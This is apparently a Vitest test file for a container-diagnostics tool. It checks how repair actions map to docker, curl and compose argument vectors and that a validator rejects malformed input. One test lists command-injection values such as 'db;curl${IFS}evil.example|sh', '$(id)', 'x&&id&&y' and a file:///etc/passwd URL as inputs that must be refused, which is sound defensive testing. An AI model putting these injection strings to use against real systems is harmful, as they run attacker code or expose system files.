import { describe, expect, it } from 'vitest';
import { commandFor, commandLine, fixOf } from '../../../../src/shared/command/fix-command.ts';
import { actionEffect, fixActionKinds, type FixAction } from '../../../../src/shared/model/index.ts';

describe('commandFor', () => {
  it('gives the argument vector of every action that has a command', () => {
    const cases: [FixAction, string[] | null][] = [
      [{ kind: 'show-logs', params: { container: 'shop-api-1', tail: 50 } }, ['docker', 'logs', '--tail', '50', 'shop-api-1']],
      [
        { kind: 'inspect-health', params: { container: 'shop-api-1' } },
        ['docker', 'inspect', '--format', '{{json .State.Health}}', 'shop-api-1'],
      ],
      [{ kind: 'resolve-host', params: { host: 'api.internal.example' } }, ['getent', 'hosts', 'api.internal.example']],
      [{ kind: 'http-get', params: { url: 'http://api:8080/health', headers: true } }, ['curl', '-i', 'http://api:8080/health']],
      [{ kind: 'http-get', params: { url: 'http://api:8080/health', headers: false } }, ['curl', '-s', 'http://api:8080/health']],
      [{ kind: 'engine-version', params: {} }, ['docker', 'version']],
      [{ kind: 'check-project', params: { project: 'shop' } }, ['stack-doctor', 'check', '--project', 'shop']],
      [{ kind: 'start-container', params: { container: 'shop-api-1' } }, ['docker', 'start', 'shop-api-1']],
      [{ kind: 'restart-container', params: { container: 'shop-api-1' } }, ['docker', 'restart', 'shop-api-1']],
      [
        { kind: 'network-connect', params: { network: 'shop_backend', container: 'dev-1', alias: 'orchestrator-service' } },
        ['docker', 'network', 'connect', 'shop_backend', 'dev-1'],
      ],
      [{ kind: 'create-service', params: { project: 'ws2', service: 'db' } }, ['docker', 'compose', '-p', 'ws2', 'up', '-d', 'db']],
      [
        { kind: 'create-service', params: { project: 'ws2', service: 'db', composeFiles: ['/w/a.yaml', '/w/b.yaml'], workingDir: '/w' } },
        ['docker', 'compose', '-p', 'ws2', '--project-directory', '/w', '-f', '/w/a.yaml', '-f', '/w/b.yaml', 'up', '-d', 'db'],
      ],
      [{ kind: 'start-devcontainer', params: { workspaceFolder: '.' } }, ['devcontainer', 'up', '--workspace-folder', '.']],
      [{ kind: 'pin-orchestrator-target', params: { url: 'http://localhost:8006' } }, null],
      [{ kind: 'start-engine', params: { endpoint: 'unix:///var/run/docker.sock' } }, null],
      [{ kind: 'edit-config', params: { file: '/w/stack-doctor.yaml', line: 3, column: 5, field: 'probe' } }, null],
      [{ kind: 'publish-port', params: { project: 'shop', service: 'orch', container: 'shop-orch-1', containerPort: 8006 } }, null],
    ];
    for (const [action, argv] of cases) expect(commandFor(action), action.kind).toEqual(argv);
    // Every kind is covered above.
    expect(new Set(cases.map(([a]) => a.kind))).toEqual(new Set(fixActionKinds));
  });

  it('refuses an action whose names could not be valid, even one built by hand', () => {
    const hostile: FixAction[] = [
      { kind: 'start-container', params: { container: 'x;id' } },
      { kind: 'start-container', params: { container: '-rm' } },
      { kind: 'network-connect', params: { network: '$(id)', container: 'dev' } },
      { kind: 'create-service', params: { project: 'ws2', service: 'db;curl${IFS}evil.example|sh' } },
      { kind: 'create-service', params: { project: 'WS 2', service: 'db' } },
      { kind: 'create-service', params: { project: 'ws2', service: 'db', composeFiles: ['-f'] } },
      { kind: 'resolve-host', params: { host: 'x&&id&&y' } },
      { kind: 'resolve-host', params: { host: '-s' } },
      { kind: 'http-get', params: { url: "http://api/'$(id)'", headers: true } },
      { kind: 'http-get', params: { url: 'file:///etc/passwd', headers: true } },
      { kind: 'check-project', params: { project: '--help' } },
      { kind: 'start-devcontainer', params: { workspaceFolder: '--help' } },
    ];
    for (const action of hostile) expect(commandFor(action), JSON.stringify(action)).toBeNull();
  });
});

describe('fixOf', () => {
  it("derives the command from the look when there is one, else from the action's", () => {
    const restart = { kind: 'restart-container' as const, params: { container: 'shop-api-1' } };
    const logs = { kind: 'show-logs' as const, params: { container: 'shop-api-1', tail: 50 } };
    expect(fixOf({ description: 'd', action: restart }).command).toBe('docker restart shop-api-1');
    expect(fixOf({ description: 'd', action: restart, look: logs }).command).toBe('docker logs --tail 50 shop-api-1');
    expect(fixOf({ description: 'd', action: { kind: 'start-engine', params: { endpoint: 'x' } } })).toEqual({
      description: 'd',
      action: { kind: 'start-engine', params: { endpoint: 'x' } },
    });
    expect(commandLine({ kind: 'http-get', params: { url: 'http://api:8080/h?a=1&b=$(id)', headers: true } })).toBe(
      "curl -i 'http://api:8080/h?a=1&b=$(id)'",
    );
  });
});

describe('actionEffect', () => {
  it('keeps read-only looks apart from changes a repair may make and changes left to the user', () => {
    expect(actionEffect('show-logs')).toBe('look');
    expect(actionEffect('resolve-host')).toBe('look');
    expect(actionEffect('start-container')).toBe('change');
    expect(actionEffect('pin-orchestrator-target')).toBe('change');
    expect(actionEffect('publish-port')).toBe('manual');
    expect(actionEffect('edit-config')).toBe('manual');
  });
});
